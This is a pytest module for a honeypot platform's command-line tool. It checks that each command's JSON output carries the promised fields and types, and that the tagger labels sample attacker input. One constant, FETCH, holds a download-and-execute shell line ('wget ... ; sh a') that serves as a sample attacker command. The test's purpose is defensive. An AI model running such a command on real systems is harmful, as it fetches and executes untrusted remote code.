"""JSON of the lists: an array of objects with the keys and types that are promised, ASCII only, on a directory that the demo has filled."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from decnet.bus.base import Event
from decnet.db.repository import BaseRepository
from decnet.home import db_url_of
from decnet_tui.cli.main import app
from tests.programkit import cli

_TYPES: Mapping[str, tuple[type, ...]] = {
    "text": (str,), "number": (int, float), "count": (int,), "list": (list,), "object": (dict,), "truth": (bool,),
}  # fmt: skip
_TAG = "uuid source_kind source_id attacker_uuid? attacker_ip? identity_uuid? session_id? decky_id? tactic technique_id technique_name sub_technique_id? confidence:number rule_id rule_version:count evidence:object attack_release seen_at? created_at"
_SESSION = "session_id sensor_session? attacker_uuid attacker_ip? identity_uuid? decky_id? service? protocol? started_at? ended_at? end_reason? duration_s:number? command_count:count tag_count:count download_count:count upload_count:count story:list? severity? severity_reason? playbook?"
PROMISED = {
    "tags": _TAG,
    "sessions": _SESSION,
    "attackers": "attacker_uuid attacker_ip identity_uuid? first_seen last_seen session_count:count decky_count:count techniques:list",
    "identities": "identity_uuid attacker_uuids:list merged_into?",
    "attribution": "identity_uuid primitive state confidence:number observation_count:count last_change_ts last_observation_ts",
    "alerts": "alert_id identity_uuid attacker_uuids:list primitives:list families:list sides:list confidence:number state ts",
    "workers": "age_s:number status",
    "rules list": "rule_id rule_version:count? name? state confidence_max:number? expires_at? reason? set_by? file? error? fired_24h:count?",
    "sensors": "kind path age_s:number? bytes_behind:count? lines:count",
    "credentials": "credential_id attacker_uuid? username? login secret? success:truth?",
    "playbooks": "playbook session_count:count severity severity_reason? first_seen last_seen",
    "campaigns": "campaign_uuid name attacker_uuids:list first_seen last_seen reasons:list",
    "deadletters": "id:count worker topic reason path? value? seq:count? ts",
    "find wget": "ts kind value attacker_ip? attacker_uuid? session_id?",
    "iocs": "kind value name? sessions:count sources:list first? last? session_id",
}
"""Command → keys of its rows: ``name``, ``name:type`` (text without one), ``?`` where it may be null. Others may stand beside."""

_DECKY = "name archetype? substrate desired:list observed:list state mutate_interval? last_mutated? next_due?"
_SAMPLE = "sha256 names:list sources:list attackers:count times:count first_seen last_seen"
WITHOUT_LIMIT = {
    "fleet list": _DECKY,
    "samples list": _SAMPLE,
    "rules coverage": "technique name tactics:list rules:list",
}
_ANSWERED = "rule_id technique_id sub_technique_id? tactic confidence:number matched"
_ANSWER = "input tags:list"
FETCH = "wget http://203.0.113.9/a; sh a"
_SESSION_ANSWER = (
    "session commands:list session_tags:list story:list story_line severity severity_reason playbook"
)
PAGES = {
    "status": "engine:object workers:list sensors:list alerts_open:count dead_letters:count rules_failed:list needs_you:list",
    "stats": "since? countries:object networks:object users:object passwords:object clients:object urls:object hosts:object hashes:object keys:object hours:object",
    "rules judge": "totals:object sources:object untagged_kinds:list untagged_lines:list never_fired:list not_asked:list one_source:list overlaps:list cost:object unreadable:list",
    "intel lookup 185.220.101.4": "address country? allocated:truth asn:count? as_name? lists:list sources:list stored:list services:list waiting:list asked:list",
}
"""Command → keys of the one object that it answers with."""
"""The same of lists that are never long."""
_READ_FIRST = "attacker_ip attacker_uuid identity_uuid? severity severity_reason sessions:count playbooks:count first last new:truth"
SUMMARY = "span:object totals:object read_first:list new_in_history:object needs_you:list"
_NEW = "files:list hosts:list keys:list credentials:list techniques:list"


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("json") / "data"
    done = cli("--headless", "--demo", "--until-idle", "0.5", "--data-dir", made, timeout=100)
    assert done.returncode == 0, done.stderr
    asyncio.run(gives_up(made))
    return made


async def gives_up(data: Path) -> None:
    """Two dead letters, of a whole event and of one element of an event."""
    repo = await BaseRepository.open(db_url_of(data, None))
    letter = Event("attacker.observed", {"x": 1}, id="dead", ts=0.0)
    await repo.dead_letter_add("ttp", letter.topic, "ValueError: no", 7, letter.to_bytes())
    await repo.dead_letter_add(
        "recorder", "attacker.session.ended", "no command", 8, b"3", path="commands[3]", value="3"
    )
    await repo.close()


def misfits(row: Mapping[str, Any], promised: str) -> list[str]:
    """What of a row is not as promised."""
    out = []
    for item in promised.split():
        name, _, kind = item.rstrip("?").partition(":")
        if name not in row:
            out.append(f"no {name}")
        elif row[name] is None:
            out += [] if item.endswith("?") else [f"{name} is null"]
        elif not isinstance(row[name], _TYPES[kind or "text"]) or (
            isinstance(row[name], bool) and kind != "truth"
        ):
            out.append(f"{name} is {row[name]!r:.60}, no {kind or 'text'}")
    return out


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_every_list_has_the_rows_that_are_promised(data: Path) -> None:
    wrong = []
    for command, promised in PROMISED.items():
        done = CliRunner().invoke(app, [*command.split(), "--json", "--limit", "20", "--data-dir", str(data)])
        assert done.exit_code in (0, 1), (command, done.output)
        assert done.stdout.isascii(), command
        rows = json.loads(done.stdout)
        assert isinstance(rows, list), command
        if not rows and command not in ("sensors",):
            wrong.append((command, "no rows: nothing was tried"))
        wrong += [(command, misfit) for row in rows for misfit in misfits(row, promised)]
    assert sorted(set(wrong)) == []


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_other_lists_and_the_summary_are_as_promised(data: Path) -> None:
    def asked(command: str, *more: str) -> Any:
        done = CliRunner().invoke(app, [*command.split(), "--json", *more, "--data-dir", str(data)])
        assert done.exit_code == 0, (command, done.output)
        assert done.stdout.isascii(), command
        return json.loads(done.stdout)

    wrong = []
    for command, promised in WITHOUT_LIMIT.items():
        rows = asked(command)
        assert rows, command
        wrong += [(command, misfit) for row in rows for misfit in misfits(row, promised)]
    told = asked("summary", "--since", "2020-01-01")
    assert told["read_first"]
    assert "usual" in told["totals"]
    wrong += [("summary", misfit) for misfit in misfits(told, SUMMARY)]
    wrong += [("new_in_history", misfit) for misfit in misfits(told["new_in_history"], _NEW)]
    wrong += [("read_first", misfit) for row in told["read_first"] for misfit in misfits(row, _READ_FIRST)]
    assert sorted(set(wrong)) == []


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_every_page_has_what_is_promised(data: Path) -> None:
    wrong = []
    for command, promised in PAGES.items():
        done = CliRunner().invoke(app, [*command.split(), "--json", "--data-dir", str(data)])
        assert done.exit_code in (0, 1), (command, done.output)
        assert done.stdout.isascii(), command
        wrong += [(command, misfit) for misfit in misfits(json.loads(done.stdout), promised)]
    assert sorted(set(wrong)) == []


def test_tag_answers_as_promised() -> None:
    def answers(*more: str, said: str) -> list[Any]:
        done = CliRunner().invoke(app, ["tag", *more, "-", "--json"], input=said)
        assert done.exit_code == 0, done.output
        assert done.stdout.isascii()
        return [json.loads(line) for line in done.stdout.splitlines()]

    line, nothing = answers(said=f"{FETCH}\nnever seen \u4f60\n")
    (session,) = answers("--sessions", said=json.dumps({"session": "s", "commands": [FETCH]}))
    assert (misfits(line, _ANSWER), misfits(nothing, _ANSWER), nothing["tags"]) == ([], [], [])
    assert misfits(session, _SESSION_ANSWER) == []
    assert [misfit for one in session["commands"] for misfit in misfits(one, _ANSWER)] == []
    tags = [*line["tags"], *session["commands"][0]["tags"]]
    assert len(tags) >= 2
    assert [misfit for one in tags for misfit in misfits(one, _ANSWERED)] == []


def test_a_row_that_is_not_as_promised_is_noticed() -> None:
    assert misfits({"a": "x", "b": 1, "c": None}, "a b:count c?") == []
    assert misfits({"a": 1, "b": True, "c": None}, "a b:count c d") == [
        "a is 1, no text",
        "b is True, no count",
        "c is null",
        "no d",
    ]
